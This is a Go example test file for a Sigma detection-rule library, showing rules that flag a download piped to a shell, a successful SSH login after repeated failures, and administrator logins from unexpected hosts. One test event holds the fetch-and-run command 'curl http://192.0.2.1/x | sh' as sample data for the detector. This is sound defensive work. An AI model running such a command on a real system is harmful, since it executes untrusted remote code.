package sigma_test

import (
	"fmt"
	"time"

	"github.com/deminer/deminer/sigma"
)

func Example() {
	rules, err := sigma.Compile(sigma.Options{}, sigma.Source{Name: "demo.yml", Text: `
title: Download handed to a shell
logsource: {category: process_creation, product: linux}
detection:
  get: {CommandLine|contains: ['curl ', 'wget ']}
  run: {CommandLine|endswith: ['| sh', '|bash']}
  condition: get and run
`})
	if err != nil {
		fmt.Println(err)
		return
	}
	m := rules.NewMatcher() // one for each goroutine
	event := sigma.Event{
		Source: sigma.LogSource{Category: "process_creation", Product: "linux"},
		Fields: []sigma.Field{{Name: "CommandLine", Value: "curl http://192.0.2.1/x | sh"}},
	}
	for _, r := range m.Match(&event) {
		fmt.Println(r.Title)
	}
	// Output: Download handed to a shell
}

func ExampleRules_NewStream() {
	rules, err := sigma.Compile(sigma.Options{}, sigma.Source{Name: "demo.yml", Text: `
title: A login after many that failed
level: high
correlation:
  type: temporal_ordered
  rules: [many_failed, login]
  group-by: [User]
  timespan: 10m
---
title: Many failed logins
name: many_failed
correlation:
  type: event_count
  rules: [failed]
  group-by: [User]
  timespan: 10m
  condition: {gte: 3}
---
title: Failed login
name: failed
logsource: {product: linux, service: sshd}
detection:
  words: ['Failed password']
  condition: words
---
title: Login
name: login
logsource: {product: linux, service: sshd}
detection:
  words: ['Accepted password']
  condition: words
`})
	if err != nil {
		fmt.Println(err)
		return
	}
	stream := rules.NewStream(sigma.Limits{})
	at := time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)
	for i, message := range []string{"Failed password", "Failed password", "Failed password", "Accepted password"} {
		event := sigma.Event{
			Source: sigma.LogSource{Product: "linux", Service: "sshd"},
			Fields: []sigma.Field{{Name: "message", Value: message}, {Name: "User", Value: "root"}},
			Time:   at.Add(time.Duration(i) * time.Minute),
		}
		for _, hit := range stream.Add(&event) {
			fmt.Println(hit.Time.Format(time.TimeOnly), hit.Rule.Title, hit.Group[0].Value)
		}
	}
	// Output: 09:03:00 A login after many that failed root
}

func ExampleOptions() {
	rule := sigma.Source{Name: "jump.yml", Text: `
title: Login of an administrator from elsewhere
logsource: {product: linux, service: sshd}
detection:
  who: {User|expand: '%Administrators%'}
  from: {Host|expand: '%JumpServers%'}
  condition: who and not from
`}
	if _, err := sigma.Compile(sigma.Options{}, rule); err != nil {
		fmt.Println(err)
	}
	rules, err := sigma.Compile(sigma.Options{Placeholders: map[string][]string{"Administrators": {"root", "adm_*"}, "JumpServers": {"jump1"}}}, rule)
	if err != nil {
		fmt.Println(err)
		return
	}
	event := sigma.Event{Source: sigma.LogSource{Product: "linux", Service: "sshd"}, Fields: []sigma.Field{{Name: "User", Value: "adm_anna"}, {Name: "Host", Value: "laptop7"}}}
	fmt.Println(len(rules.Match(&event)))
	// Output:
	// jump.yml:5:14: rule "Login of an administrator from elsewhere": field "User": modifier "expand": no list was given for the placeholder %Administrators%
	// jump.yml:6:15: rule "Login of an administrator from elsewhere": field "Host": modifier "expand": no list was given for the placeholder %JumpServers%
	// 1
}
